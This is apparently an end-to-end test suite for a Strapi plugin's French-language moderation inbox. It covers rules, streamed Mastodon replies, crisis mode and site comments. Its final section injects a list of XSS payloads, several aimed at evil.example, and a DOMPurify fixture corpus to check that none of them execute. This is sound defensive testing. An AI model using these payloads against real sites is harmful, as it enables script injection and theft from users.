import { createHmac } from 'node:crypto';
import type { Browser, Page } from 'playwright-core';
import { serveApp, type ServedApp } from './helpers/app';
import { launchBrowser, logIn, openInApp, screenshot } from './helpers/browser';
import { startFakeMastodon, type FakeMastodon } from '../fakes/mastodon';
import { createAccount, publicationsOf, schedulePlan, tickAt } from '../helpers/publishing';
import { bearer } from '../helpers/strapi';
import { loadXssFixtures, representativeXss } from '../helpers/xss-corpus';

/**
 * The community inbox in a real Chromium, for a community manager whose admin
 * language is French (issue 15's "must show", docs/moderation.md): a rule made
 * in the Rules view tags what matches; a reply to our post, written on the
 * Mastodon fake, is pushed by the streaming API and shows in the Inbox page
 * within seconds, tagged; opened, it shows its thread read from Mastodon
 * (our post above it); the manager saves a French reply, picks it, sends
 * it, and the fake receives exactly one status in reply to that reply; a
 * burst of complaints raises the crisis alert (banner) and the menu badge
 * counts what waits; crisis mode goes on (banner) and off; a comment left
 * on the site through strapi-plugin-comments is approved, answered and
 * rejected from the conversation pane. Then the XSS
 * corpus as comments from the site and from Mastodon: listed, searched and
 * opened, nothing in them runs (docs/moderation.md, "Security").
 */
jest.setTimeout(240_000);

const TOKEN = 'e2e-inbox-token';
const CLAIRE = { id: '901', username: 'claire', displayName: 'Claire Martin' };
/** What the page may take to show a streamed reply: its refresh (5 s) and a loaded machine's slack. */
const VISIBLE_WITHIN_MS = 15_000;
/** A change the page shows once the server has answered a request that does real work (a reading of every source). */
const SERVER_ROUND_TRIP_MS = 90_000;
/** The signed site endpoint's secret (docs/inbox.md, "Site comments"): the XSS story posts through it. */
const SITE_SECRET = 'e2e-inbox-site-secret-0123456789';

let app: ServedApp;
let browser: Browser;
let page: Page;
let mastodon: FakeMastodon;
let accountId: string;
let ourPostId: string;

interface Streams {
  pass(): Promise<string[]>;
}

/**
 * Waits on a condition with a deadline, never on a fixed sleep. Every 100 ms: a check is a database query
 * or a round trip to the browser, and 40 a second of them cost CPU the suite's two cores need elsewhere.
 */
async function until(check: () => boolean | Promise<boolean>, what: string, deadlineMs = 15_000) {
  const end = Date.now() + deadlineMs;
  while (Date.now() < end) {
    if (await check()) return;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  throw new Error(`still waiting for ${what}`);
}

beforeAll(async () => {
  [app, browser, mastodon] = await Promise.all([
    // The real strapi-plugin-comments (playground/config/plugins.js declares it with CM_COMMENTS_ENABLED).
    serveApp({ CM_SCHEDULER_ENABLED: 'false', CM_INBOX_SITE_SECRETS: SITE_SECRET, CM_COMMENTS_ENABLED: 'true' }),
    launchBrowser(),
    startFakeMastodon(),
  ]);
  mastodon.tokens.set(TOKEN, { id: '7', username: 'marque', displayName: 'La Marque' });
  accountId = (
    await createAccount(app, { network: 'mastodon', name: 'La Marque sur Mastodon', instanceUrl: mastodon.url, accessToken: TOKEN })
  ).documentId;
  // Our post, published to the fake: the reply below answers it.
  const plan = await schedulePlan(app, [accountId], {
    body: 'Notre collection de printemps est en ligne',
    local: `${new Date().getUTCFullYear() + 1}-04-02T09:00`,
  });
  await tickAt(app, Date.parse(plan.scheduledAt) + 1);
  expect((await publicationsOf(app, plan.documentId))[0].state).toBe('published');
  ourPostId = mastodon.statuses.find((s) => s.text === 'Notre collection de printemps est en ligne')!.id;

  // The admin interface language, set the way Strapi's profile page sets it.
  const me = await app.http.put('/admin/users/me').set(bearer(app.token)).send({ preferedLanguage: 'fr' });
  expect([me.status, me.body.data.preferedLanguage]).toEqual([200, 'fr']);

  // The inbox timer is off in tests; its pass opens the account's notification stream, run once here.
  const streams = (app.strapi.plugin('community-manager').service('inbox') as unknown as { streams: Streams }).streams;
  expect(await streams.pass()).toEqual([accountId]);
  await until(() => mastodon.streams('7') === 1, 'the notifications stream to open');

  page = await browser.newPage({ viewport: { width: 1440, height: 1000 }, locale: 'en-US' });
});
afterAll(async () => {
  await browser?.close();
  await app?.stop();
  await mastodon?.stop();
});

describe('the inbox, in French', () => {
  let replyStatusId: string;

  it('opens the Moderation page in the admin’s language', async () => {
    await logIn(page, app.url);
    await openInApp(page, app.url, '/admin/plugins/community-manager/moderation');
    await page.getByRole('heading', { name: 'Boîte de réception', level: 1 }).waitFor();
    await page.getByRole('button', { name: 'Vérifier maintenant' }).waitFor();
    await page.getByRole('button', { name: 'Règles', exact: true }).waitFor();
    await page
      .getByRole('link', { name: /^Modération/ })
      .first()
      .waitFor();
  });

  it('makes a rule in the Rules view that tags the replies naming a word', async () => {
    await page.getByRole('button', { name: 'Règles', exact: true }).click();
    const dialog = page.getByRole('dialog', { name: 'Règles de modération' });
    await dialog.getByText('Aucune règle pour l’instant.').waitFor();
    await dialog.getByRole('button', { name: 'Ajouter une règle' }).click();
    await dialog.getByLabel('Nom', { exact: true }).fill('Remboursements');
    await dialog.getByLabel('Mots-clés', { exact: true }).fill('remboursement');
    await dialog.getByLabel('Ajouter des étiquettes', { exact: true }).fill('remboursement');
    // The live dry run, in French: nothing came in yet.
    await dialog.getByText('Ne correspond à aucun élément des 30 derniers jours.').waitFor();
    await dialog.getByRole('button', { name: 'Enregistrer' }).click();
    await page.getByText('Règle enregistrée').first().waitFor();
    await dialog.getByText('Remboursements', { exact: true }).waitFor();
    await screenshot(page, '20-inbox-rule-fr');
    await dialog.getByRole('button', { name: 'Fermer' }).last().click();
    await dialog.waitFor({ state: 'hidden' });

    const rules = await app.http.get('/community-manager/inbox/rules').set(bearer(app.token));
    expect(rules.body.data).toEqual([
      expect.objectContaining({
        name: 'Remboursements',
        enabled: true,
        conditions: expect.objectContaining({ keywords: ['remboursement'] }),
        actions: expect.objectContaining({ tags: ['remboursement'] }),
      }),
    ]);
  });

  it('shows a reply written on Mastodon within seconds, tagged by the rule', async () => {
    const list = page.getByTestId('inbox-items').or(page.getByText(/^Rien ici/));
    await list.first().waitFor();
    const text = '@marque Toujours aucun remboursement pour ma commande 4471, je suis déçue';
    const notificationReads = () =>
      mastodon.requests.filter((r) => r.method === 'GET' && r.path.startsWith('/api/v1/notifications')).length;
    const readsBefore = notificationReads();
    const started = Date.now();
    replyStatusId = mastodon.mention('7', CLAIRE, text, { inReplyToId: ourPostId, language: 'fr' }).id;
    // Pushed by the stream and stored at once…
    const stored = () =>
      app.strapi.db.query('plugin::community-manager.inbox-item').count({ where: { sourceRef: accountId, externalId: replyStatusId } });
    await until(async () => (await stored()) === 1, 'the streamed reply to be stored', VISIBLE_WITHIN_MS);
    const storedAfterMs = Date.now() - started;
    // …and on the page at its next refresh: no reload, no click.
    const row = page.getByTestId('inbox-items').getByRole('listitem').filter({ hasText: 'Toujours aucun remboursement' });
    await row.waitFor({ timeout: VISIBLE_WITHIN_MS });
    const shownAfterMs = Date.now() - started;
    console.log(`[e2e] the streamed reply was stored after ${storedAfterMs} ms and shown in the inbox after ${shownAfterMs} ms`);
    expect(shownAfterMs).toBeLessThan(VISIBLE_WITHIN_MS);
    // No reading of the notifications brought it: the stream did.
    expect(notificationReads()).toBe(readsBefore);
    await row.getByText('remboursement', { exact: true }).waitFor();
    await row.getByText('Nouveau', { exact: true }).waitFor();
    await row.getByText('Négative', { exact: true }).waitFor();
    await row.getByText('Claire Martin').waitFor();
    await screenshot(page, '21-inbox-reply-tagged-fr');
  });

  it('answers in French with a saved reply, and the reply reaches Mastodon once', async () => {
    const row = page.getByTestId('inbox-items').getByRole('listitem').filter({ hasText: 'Toujours aucun remboursement' });
    await row.getByRole('button', { name: 'Claire Martin' }).click();
    const detail = page.getByTestId('inbox-detail');
    await detail.getByText('Toujours aucun remboursement pour ma commande 4471').waitFor();
    // The thread, read from Mastodon as the item opens: our post above the reply, marked as ours.
    const context = detail.getByTestId('inbox-context');
    await context.getByText('Notre collection de printemps est en ligne').waitFor();
    await context.getByText('Nous', { exact: true }).waitFor();
    await context.getByText('Cet élément', { exact: true }).waitFor();
    await detail.getByText('Règles appliquées').waitFor();
    await detail.getByText('Remboursements', { exact: true }).waitFor();

    // A saved reply, written once in the reply box and kept under a name.
    const box = page.getByTestId('inbox-reply');
    await box.getByLabel('Réponse', { exact: true }).fill('Bonjour {author}, nous regardons votre remboursement tout de suite.');
    await box.getByLabel('Nom de la réponse enregistrée').fill('Remboursement en cours');
    await box.getByRole('button', { name: 'Enregistrer comme réponse type' }).click();
    const picker = box.getByRole('combobox', { name: 'Réponse enregistrée' });
    await picker.waitFor();
    await box.getByLabel('Réponse', { exact: true }).fill('');

    // Picked from the box: {author} filled in for this reply.
    await picker.click();
    await page.getByRole('option', { name: 'Remboursement en cours' }).click();
    const filled = 'Bonjour @claire@elsewhere.example, nous regardons votre remboursement tout de suite.';
    await until(async () => (await box.getByLabel('Réponse', { exact: true }).inputValue()) === filled, 'the saved reply in the box');
    const postsBefore = mastodon.requests.filter((r) => r.method === 'POST' && r.path === '/api/v1/statuses').length;
    await box.getByRole('button', { name: 'Envoyer la réponse' }).click();
    await page.getByText('Réponse envoyée.').first().waitFor();
    await detail.getByText('Nos réponses').waitFor();
    await detail.getByText('Envoyée', { exact: true }).waitFor();
    await screenshot(page, '22-inbox-answered-fr');

    const answers = mastodon.statuses.filter((s) => s.accountId === '7' && s.inReplyToId === replyStatusId);
    expect(answers.map((s) => s.text)).toEqual([filled]);
    expect(answers[0].idempotencyKey).toEqual(expect.any(String));
    const posts = mastodon.requests.filter((r) => r.method === 'POST' && r.path === '/api/v1/statuses');
    expect(posts).toHaveLength(postsBefore + 1);
    // The box is empty again and its send button waits for a new text: nothing more can go out by a second click.
    expect(await box.getByLabel('Réponse', { exact: true }).inputValue()).toBe('');
    expect(await box.getByRole('button', { name: 'Envoyer la réponse' }).isDisabled()).toBe(true);
    expect(mastodon.statuses.filter((s) => s.inReplyToId === replyStatusId)).toHaveLength(1);
  });

  it('raises the crisis alert on a burst of complaints, shown as a banner, with what waits on the menu badge', async () => {
    // Five more complaints within the hour, streamed in: six negatives where about one was expected.
    for (let i = 1; i <= 5; i++)
      mastodon.mention(
        '7',
        { id: `91${i}`, username: `client${i}`, displayName: `Client ${i}` },
        `@marque Colis ${i} jamais arrivé, service client nul, je suis très déçue`,
        {
          language: 'fr',
        }
      );
    const stored = () => app.strapi.db.query('plugin::community-manager.inbox-item').count({ where: { sourceRef: accountId } });
    await until(async () => (await stored()) === 6, 'the five complaints to be stored', VISIBLE_WITHIN_MS);
    // A reading evaluates the detector (docs/moderation.md); the banner and the badge follow it without a reload.
    await page.getByRole('button', { name: 'Vérifier maintenant' }).click();
    const banner = page.getByTestId('crisis-alert-banner');
    // After the reading's answer (it reads every source): past 30 s once, in a CI run with the machine 96 % busy throughout.
    await banner.getByText('Alerte de crise', { exact: true }).waitFor({ timeout: SERVER_ROUND_TRIP_MS });
    await banner.getByText(/^6 messages négatifs ces 60 dernières minutes/).waitFor();
    const alert = (await app.http.get('/community-manager/inbox/crisis').set(bearer(app.token))).body.data.alert;
    expect(alert.details.counts.windowNegatives).toBe(6);
    // The menu's count: the five new complaints (the answered reply is done).
    const badge = page.getByTestId('inbox-badge');
    await badge.filter({ hasText: /^5$/ }).waitFor();
    expect(await badge.getAttribute('aria-label')).toBe('5 en attente dans la boîte de réception');
    await screenshot(page, '23-inbox-crisis-alert-fr');
  });

  it('turns crisis mode on, shows its banner, and turns it off', async () => {
    const pause = async () =>
      (await app.http.get('/community-manager/publishing').set(bearer(app.token))).body.data.pause.paused as boolean;
    expect(await pause()).toBe(false);
    // By keyboard: the notification toasts sit over the page's top right and can take the pointer (CI saw it 30 s long).
    // The header's button: the alert banner above offers the same switch.
    await page.getByTestId('crisis-start').press('Enter');
    const banner = page.getByTestId('crisis-mode-banner');
    await banner.getByText('Le mode crise est activé', { exact: true }).waitFor({ timeout: SERVER_ROUND_TRIP_MS });
    await banner.getByText(/Toutes les publications sont suspendues/).waitFor();
    expect(await pause()).toBe(true);
    await screenshot(page, '24-inbox-crisis-on-fr');

    await banner.getByRole('button', { name: 'Terminer le mode crise' }).press('Enter');
    await page.getByText('Le mode crise est terminé.').first().waitFor();
    await banner.waitFor({ state: 'detached' });
    await page.getByTestId('crisis-start').waitFor();
    expect(await pause()).toBe(false);
  });

  it('moderates and answers a site comment through strapi-plugin-comments', async () => {
    const comments = app.strapi.plugin('comments') as unknown as {
      service(name: string): Record<string, (...a: unknown[]) => Promise<unknown>>;
    };
    const stored = (id: number) =>
      app.strapi.db.query('plugin::comments.comment').findOne({ where: { id } }) as Promise<{ approvalStatus: string } | null>;
    const article = await app.strapi
      .documents('api::article.article')
      .create({ data: { title: 'Printemps', slug: 'printemps-e2e' } as never });
    // The plugin reads its moderation settings from its store (its Settings page writes them).
    await app.strapi.store({ type: 'plugin', name: 'comments' }).set({
      key: 'config',
      value: { enabledCollections: ['api::article.article'], approvalFlow: ['api::article.article'], badWords: false },
    });
    // As a visitor of the site writes it: through the plugin's own service (its REST route calls the same).
    const comment = (await comments.service('client').create(
      {
        relation: `api::article.article:${article.documentId}`,
        content: 'Très bel article, merci pour les conseils',
        author: { id: 'v1', name: 'Vera Dupont', email: 'vera@example.com' },
      },
      undefined
    )) as { id: number };

    await page.getByRole('button', { name: 'Vérifier maintenant' }).click();
    const row = page.getByTestId('inbox-items').getByRole('listitem').filter({ hasText: 'Très bel article' });
    await row.waitFor({ timeout: SERVER_ROUND_TRIP_MS });
    await row.getByRole('button', { name: 'Vera Dupont' }).click();
    const site = page.getByTestId('inbox-site-comment');
    await site.getByText('En attente d’approbation', { exact: true }).waitFor();

    await site.getByRole('button', { name: 'Approuver' }).click();
    await site.getByText('Approuvé', { exact: true }).waitFor();
    expect((await stored(comment.id))?.approvalStatus).toBe('APPROVED');

    const box = page.getByTestId('inbox-reply');
    await box.getByLabel('Réponse', { exact: true }).fill('Merci Vera !');
    await box.getByRole('button', { name: 'Envoyer la réponse' }).click();
    await page.getByText('Réponse envoyée.').first().waitFor();
    const answers = (await app.strapi.db
      .query('plugin::comments.comment')
      .findMany({ where: { threadOf: comment.id, isAdminComment: true } })) as Array<{ content: string }>;
    expect(answers.map((a) => a.content)).toEqual(['Merci Vera !']);

    await site.getByRole('button', { name: 'Rejeter' }).click();
    await site.getByText('Rejeté', { exact: true }).waitFor();
    expect((await stored(comment.id))?.approvalStatus).toBe('REJECTED');
    await screenshot(page, '25-inbox-site-comment-fr');
  });
});

/**
 * Every script a payload could run reports here: alert, confirm, prompt and
 * print are replaced before the admin's own code loads, payloads written for
 * this story set `window.__xss` themselves, and a script the page's
 * Content-Security-Policy blocks is recorded too (it got into the page, which
 * is the defect, whatever stopped it).
 */
const XSS_HOOKS = `(() => {
  window.__xssCalls = [];
  for (const name of ['alert', 'confirm', 'prompt', 'print']) {
    window[name] = (...args) => {
      window.__xssCalls.push(name + '(' + args.map(String).join(',') + ')');
      if (window.__xss === undefined) window.__xss = name;
    };
  }
  window.__blocked = [];
  window.__evalBlocked = [];
  document.addEventListener('securitypolicyviolation', (event) => {
    if (!/^script-src/.test(event.effectiveDirective)) return;
    // eval refused: the admin's own bundle probing for it (a payload would need a script running to call eval at all).
    if (event.blockedURI === 'eval') return void window.__evalBlocked.push(String(event.sourceFile).split('/').pop());
    const target = event.target instanceof Element ? event.target.outerHTML.slice(0, 120) : String(event.blockedURI);
    window.__blocked.push(event.effectiveDirective + ' ' + target);
  }, true);
})();`;

/** Payloads written for this story: each runs `window.__xss=1` or reaches evil.example if it gets through. */
const MARKERS = [
  '<img src=x onerror="window.__xss=1">',
  '<img src="https://evil.example/pixel.png" onerror="window.__xss=1">',
  '<svg onload="window.__xss=1"><animate onbegin="window.__xss=1" attributeName="x" dur="1s"></animate></svg>',
  '<script>window.__xss=1</script><script src="https://evil.example/x.js"></script>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe><iframe src="https://evil.example/frame"></iframe>',
  '<details open ontoggle="window.__xss=1"><summary>x</summary></details><input autofocus onfocus="window.__xss=1">',
  '<a href="javascript:window.__xss=1">lien</a><video><source onerror="window.__xss=1"></video>',
  '<style>@import "https://evil.example/x.css";</style><link rel="stylesheet" href="https://evil.example/l.css">',
  '<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
  '<img srcset="https://evil.example/s.png 1x" src="x" onerror="window.__xss=1"><body onload="window.__xss=1">',
];

/** Runs in the page: what in `root` could run script or fetch a payload's address. */
function scriptCapable(root: Element): string[] {
  const found: string[] = [];
  for (const el of [root, ...Array.from(root.querySelectorAll('*'))]) {
    const tag = el.localName;
    if (/^(script|iframe|frame|frameset|object|embed|applet|base|meta|link|style|noscript|template|math)$/.test(tag))
      found.push(`<${tag}>`);
    for (const attr of Array.from(el.attributes)) {
      if (/^on/i.test(attr.name) || /^(srcdoc|formaction)$/i.test(attr.name)) found.push(`${tag}@${attr.name}`);
      if (/evil\.example|__xss/.test(attr.value)) found.push(`${tag}@${attr.name}=${attr.value.slice(0, 80)}`);
      if (/^(href|src|action|xlink:href|data|poster|background)$/i.test(attr.name)) {
        let protocol = 'invalid:';
        try {
          protocol = new URL(attr.value, document.baseURI).protocol;
        } catch {
          // an address the browser cannot parse goes nowhere
        }
        if (!['http:', 'https:', 'mailto:', 'invalid:'].includes(protocol)) found.push(`${tag}@${attr.name}=${protocol}`);
      }
    }
  }
  return found;
}

describe('the inbox against the XSS corpus', () => {
  it('runs nothing a comment carries: corpus payloads from the site and Mastodon, searched, listed and opened', async () => {
    const started = Date.now();
    // A subset of DOMPurify's fixtures, every vector family (tests/helpers/xss-corpus.ts), and the marker payloads.
    const corpus = representativeXss(loadXssFixtures(), 40);
    const families = new Set(corpus.map((c) => c.family));
    expect(families.size).toBeGreaterThanOrEqual(12);
    const site = [
      ...corpus.map((c) => ({ label: `#${c.index} ${c.family}`, payload: c.payload })),
      ...MARKERS.map((m, i) => ({ label: `marker ${i}`, payload: m })),
    ];
    const name = (i: number) => `Sonde XSS ${String(i + 1).padStart(2, '0')}`;

    // Through the real signed endpoint, as a site sends them (docs/inbox.md): half as HTML only (the text is what the
    // sanitizer leaves), half with the raw payload as the plain text too. Older than the Mastodon ones: listed after them.
    for (const [i, c] of site.entries()) {
      const body = JSON.stringify({
        id: `xss-${i + 1}`,
        postUrl: 'https://blog.example/spring',
        threadId: 'xss-thread',
        author: { name: name(i), profileUrl: `https://commenter.example/${i + 1}` },
        html: c.payload,
        ...(i % 2 ? { text: c.payload } : {}),
        createdAt: new Date(started - 60_000 - i * 1000).toISOString(),
      });
      const timestamp = String(Math.floor(Date.now() / 1000));
      const signature = createHmac('sha256', SITE_SECRET).update(`${timestamp}.${body}`).digest('hex');
      const res = await app.http
        .post('/api/community-manager/inbox/site')
        .set('content-type', 'application/json')
        .set('x-cm-timestamp', timestamp)
        .set('x-cm-signature', `sha256=${signature}`)
        .send(body);
      expect([c.label, res.status, res.body.data?.created]).toEqual([c.label, 200, true]);
    }

    // HTML content from the network: a hostile instance's statuses, pushed by the stream.
    const fromMastodon = [
      MARKERS[0],
      MARKERS[2],
      MARKERS[4],
      MARKERS[6],
      corpus.find((c) => c.family === 'SVG')!.payload,
      corpus.find((c) => c.family === 'MathML')!.payload,
    ];
    const who = (i: number) => ({ id: `95${i}`, username: `sonde${i}`, displayName: `Sonde Mastodon ${i + 1}` });
    const statusIds = fromMastodon.map((html, i) => mastodon.mention('7', who(i), 'sonde', { html: `<p>@marque ${html}</p>` }).id);
    const storedFromMastodon = () =>
      app.strapi.db
        .query('plugin::community-manager.inbox-item')
        .count({ where: { sourceRef: accountId, externalId: { $in: statusIds } } });
    await until(async () => (await storedFromMastodon()) === statusIds.length, 'the hostile statuses to be stored', VISIBLE_WITHIN_MS);
    const ingestedMs = Date.now() - started;

    const dialogs: string[] = [];
    const evil: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(`${dialog.type()}: ${dialog.message()}`);
      void dialog.dismiss();
    });
    const isEvil = (url: string) => /^[a-z]+:\/\/([^/]*\.)?evil\.example([:/]|$)/i.test(url);
    page.on('request', (request) => {
      if (isEvil(request.url())) evil.push(request.url());
    });
    // Seen, then stopped: nothing leaves the machine.
    await page.route(
      (url) => isEvil(url.href),
      (route) => route.abort()
    );
    await page.addInitScript(XSS_HOOKS);
    await page.goto(`${app.url}/admin/plugins/community-manager/moderation`);
    await page.getByRole('heading', { name: 'Boîte de réception', level: 1 }).waitFor();

    // Searched to the probes: 25 a page, the six from Mastodon first (newest).
    await page.getByRole('search').locator('input').fill('sonde');
    await page.getByRole('search').locator('input').press('Enter');
    const rows = page.getByTestId('inbox-items').getByRole('listitem');
    await until(
      async () => (await rows.count()) === 25 && (await rows.filter({ hasNotText: /Sonde (XSS|Mastodon) \d+/ }).count()) === 0,
      'the list searched to the probes'
    );
    const dangers: string[] = [];
    dangers.push(...(await page.getByTestId('inbox-items').evaluate(scriptCapable)).map((d) => `list: ${d}`));

    // Opened: every Mastodon one, and site ones, whose pane lists the whole site thread (every site payload's text).
    const detail = page.getByTestId('inbox-detail');
    const opened = [...fromMastodon.map((_, i) => `Sonde Mastodon ${i + 1}`), name(0), name(1), name(site.length - 1)];
    for (const author of opened) {
      const row = rows.filter({ has: page.getByRole('button', { name: author, exact: true }) });
      if (!(await row.count())) {
        // Further pages hold the older site comments: searched by the name itself.
        await page.getByRole('search').locator('input').fill(author);
        await page.getByRole('search').locator('input').press('Enter');
        await row.waitFor();
      }
      await row.getByRole('button', { name: author, exact: true }).click();
      await detail.getByRole('link', { name: new RegExp(`^${author}`) }).waitFor();
      if (author.startsWith('Sonde XSS')) {
        await until(async () => (await detail.getByText(/^Sonde XSS \d+$/).count()) >= site.length, `the site thread in ${author}'s pane`);
      } else {
        await detail.getByTestId('inbox-context').waitFor();
      }
      dangers.push(...(await detail.evaluate(scriptCapable)).map((d) => `${author}'s pane: ${d}`));
    }
    // Whatever the payloads loaded has settled once a load asked for after them has: an error fires onerror handlers in order.
    await page.evaluate(
      () =>
        new Promise((resolve) => {
          const probe = new Image();
          probe.addEventListener('error', resolve);
          probe.addEventListener('load', resolve);
          probe.src = `/xss-settle-${Date.now()}.png`;
        })
    );
    const fired = await page.evaluate(() => {
      const w = window as unknown as { __xss?: unknown; __xssCalls: string[]; __blocked: string[]; __evalBlocked: string[] };
      return { xss: w.__xss, calls: w.__xssCalls, blocked: w.__blocked, evalBlocked: w.__evalBlocked };
    });
    console.log(
      `[e2e] XSS: ${site.length} site comments (${corpus.length} DOMPurify fixtures in ${families.size} families, ${MARKERS.length} markers) and ` +
        `${fromMastodon.length} Mastodon statuses ingested in ${ingestedMs} ms; ${opened.length} opened; ` +
        `${fired.calls.length} calls, ${fired.blocked.length} blocked scripts (and ${fired.evalBlocked.length} eval refused, from ${[...new Set(fired.evalBlocked)].join(', ')}), ${dialogs.length} dialogs, ${evil.length} requests to evil.example, ` +
        `${dangers.length} script-capable nodes; ${Date.now() - started} ms in all`
    );
    expect(fired.xss).toBeUndefined();
    expect(fired.calls).toEqual([]);
    expect(fired.blocked).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(evil).toEqual([]);
    expect(dangers).toEqual([]);

    // The detectors themselves, in the same page: a handler that does get in is seen (run, or blocked by the CSP)…
    await page.evaluate(() =>
      document.body.insertAdjacentHTML('beforeend', '<img id="xss-control" src="x" onerror="window.__xssControl=1">')
    );
    await until(
      () =>
        page.evaluate(() => {
          const w = window as unknown as { __xssControl?: number; __blocked: string[] };
          return w.__xssControl === 1 || w.__blocked.some((b) => b.includes('xss-control'));
        }),
      'the control handler to run or be blocked'
    );
    const control = await page.evaluate(() =>
      (window as unknown as { __xssControl?: number }).__xssControl ? 'ran' : 'blocked by the CSP'
    );
    console.log(`[e2e] XSS control: a handler inserted on purpose ${control}`);
    // …and so is a call to alert, with no dialog.
    await page.evaluate(() => window.alert('control'));
    expect(await page.evaluate(() => (window as unknown as { __xssCalls: string[] }).__xssCalls)).toEqual(['alert(control)']);
    expect(dialogs).toEqual([]);
    // …and the tree check finds it.
    expect(await page.locator('#xss-control').evaluate(scriptCapable)).toContain('img@onerror');
  });
});
